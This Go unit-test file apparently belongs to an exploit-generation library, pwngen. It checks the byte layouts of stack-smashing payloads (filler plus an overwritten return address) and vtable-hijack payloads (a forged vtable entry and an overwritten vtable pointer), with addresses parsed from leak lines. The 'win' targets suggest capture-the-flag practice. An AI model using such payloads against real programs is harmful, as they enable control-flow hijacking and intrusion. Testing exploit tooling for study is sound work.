package payload

import (
	"bytes"
	"encoding/binary"
	"testing"

	"github.com/stretchr/testify/require"

	"gitlab.com/stephen-fox/pwngen/leak"
)

func TestStackSmash_Layout(t *testing.T) {
	p, err := StackSmash(StackSmashConfig{
		WinAddr: 0xdeadbeef,
	})
	require.NoError(t, err)
	require.Len(t, p, StackSmashPayloadLen)

	// Bytes 0-31 are all filler; 32-39 are the win address,
	// little endian.
	require.Equal(t, bytes.Repeat([]byte{'A'}, 32), p[0:32])
	require.Equal(t, []byte{0xef, 0xbe, 0xad, 0xde, 0x00, 0x00, 0x00, 0x00}, p[32:40])
}

func TestStackSmash_FromLeakLine(t *testing.T) {
	winAddr, err := leak.ParseLine([]byte("win() @ 0xdeadbeef\n"))
	require.NoError(t, err)

	p, err := StackSmash(StackSmashConfig{WinAddr: winAddr})
	require.NoError(t, err)

	exp := append(bytes.Repeat([]byte{'A'}, 32),
		0xef, 0xbe, 0xad, 0xde, 0x00, 0x00, 0x00, 0x00)
	require.Equal(t, exp, p)
}

func TestStackSmash_Idempotent(t *testing.T) {
	config := StackSmashConfig{WinAddr: 0x401176}

	first, err := StackSmash(config)
	require.NoError(t, err)

	second, err := StackSmash(config)
	require.NoError(t, err)

	require.Equal(t, first, second)
}

func TestStackSmash_Overrides(t *testing.T) {
	p, err := StackSmash(StackSmashConfig{
		WinAddr:         0x1000,
		OptReturnOffset: 8,
		OptFiller:       'B',
	})
	require.NoError(t, err)
	require.Len(t, p, 16)
	require.Equal(t, []byte("BBBBBBBB"), p[0:8])
}

func TestStackSmash_NegativeOffset(t *testing.T) {
	_, err := StackSmash(StackSmashConfig{
		WinAddr:         0x1000,
		OptReturnOffset: -1,
	})
	require.Error(t, err)
}

func TestVTableHijack_Layout(t *testing.T) {
	p, err := VTableHijack(VTableHijackConfig{
		WinAddr:    0x1000,
		BufferAddr: 0x2000,
	})
	require.NoError(t, err)
	require.Len(t, p, VTableHijackPayloadLen)

	// Bytes 0-7 are the forged vtable entry (win address), 8-63 are
	// filler, 64-71 overwrite the object's vtable pointer with the
	// buffer's own address. All pointers little endian.
	winEntry := make([]byte, 8)
	binary.LittleEndian.PutUint64(winEntry, 0x1000)
	require.Equal(t, winEntry, p[0:8])

	require.Equal(t, bytes.Repeat([]byte{'A'}, 56), p[8:64])

	vptr := make([]byte, 8)
	binary.LittleEndian.PutUint64(vptr, 0x2000)
	require.Equal(t, vptr, p[64:72])
}

func TestVTableHijack_FromLeakLines(t *testing.T) {
	winAddr, err := leak.ParseLine([]byte("win @ 0x1000\n"))
	require.NoError(t, err)

	bufferAddr, err := leak.ParseLine([]byte("buf @ 0x2000\n"))
	require.NoError(t, err)

	p, err := VTableHijack(VTableHijackConfig{
		WinAddr:    winAddr,
		BufferAddr: bufferAddr,
	})
	require.NoError(t, err)
	require.Len(t, p, 72)
}

func TestVTableHijack_Idempotent(t *testing.T) {
	config := VTableHijackConfig{
		WinAddr:    0x401196,
		BufferAddr: 0x7ffc1255d780,
	}

	first, err := VTableHijack(config)
	require.NoError(t, err)

	second, err := VTableHijack(config)
	require.NoError(t, err)

	require.Equal(t, first, second)
}

// Documents the input contract: the builder cannot detect swapped
// addresses. Both orders produce well-formed payloads; only the
// documented order (win first, buffer second) redirects the target's
// virtual call.
func TestVTableHijack_SwappedAddressesAreUndetectable(t *testing.T) {
	correct, err := VTableHijack(VTableHijackConfig{
		WinAddr:    0x1000,
		BufferAddr: 0x2000,
	})
	require.NoError(t, err)

	swapped, err := VTableHijack(VTableHijackConfig{
		WinAddr:    0x2000,
		BufferAddr: 0x1000,
	})
	require.NoError(t, err)

	require.Len(t, swapped, len(correct))
	require.NotEqual(t, correct, swapped)
}

func TestVTableHijack_OffsetLeavesNoRoomForForgedEntry(t *testing.T) {
	_, err := VTableHijack(VTableHijackConfig{
		WinAddr:       0x1000,
		BufferAddr:    0x2000,
		OptVPtrOffset: 4,
	})
	require.Error(t, err)
}

func TestVTableHijack_NegativeOffset(t *testing.T) {
	_, err := VTableHijack(VTableHijackConfig{
		WinAddr:       0x1000,
		BufferAddr:    0x2000,
		OptVPtrOffset: -8,
	})
	require.Error(t, err)
}
